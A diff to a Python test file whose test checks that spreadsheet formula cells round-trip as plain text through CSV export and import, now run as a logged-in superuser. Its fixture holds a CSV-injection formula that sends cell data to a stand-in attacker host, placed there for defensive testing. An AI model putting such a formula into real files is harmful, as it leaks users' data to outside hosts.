@@ -219,7 +219,9 @@ def test_export_then_import_gives_the_same_claims(references):
     assert sorted(Claim.objects.values_list(*fields)) == before
 
 
-def test_exported_formula_cells_import_as_the_texts_they_were(tmp_path, references):
+def test_exported_formula_cells_import_as_the_texts_they_were(
+    tmp_path, references, superuser
+):
     metric = MetricFactory(slug="-trade")
     texts = {
         "text": '=HYPERLINK("http://evil.example/?x="&A1)',
@@ -234,7 +236,10 @@ def test_exported_formula_cells_import_as_the_texts_they_were(tmp_path, referenc
     )
     fields = [*texts, "metric_id", "value", "status"]
     before = list(Claim.objects.values_list(*fields))
-    response = APIClient().get("/api/v1/claims/?format=csv")
+    # An editor's export: the public one leaves the working notes out.
+    editor = APIClient()
+    editor.force_login(superuser)
+    response = editor.get("/api/v1/claims/?format=csv")
     path = tmp_path / "claims.csv"
     path.write_bytes(b"".join(response.streaming_content))
     Claim.objects.all().delete()
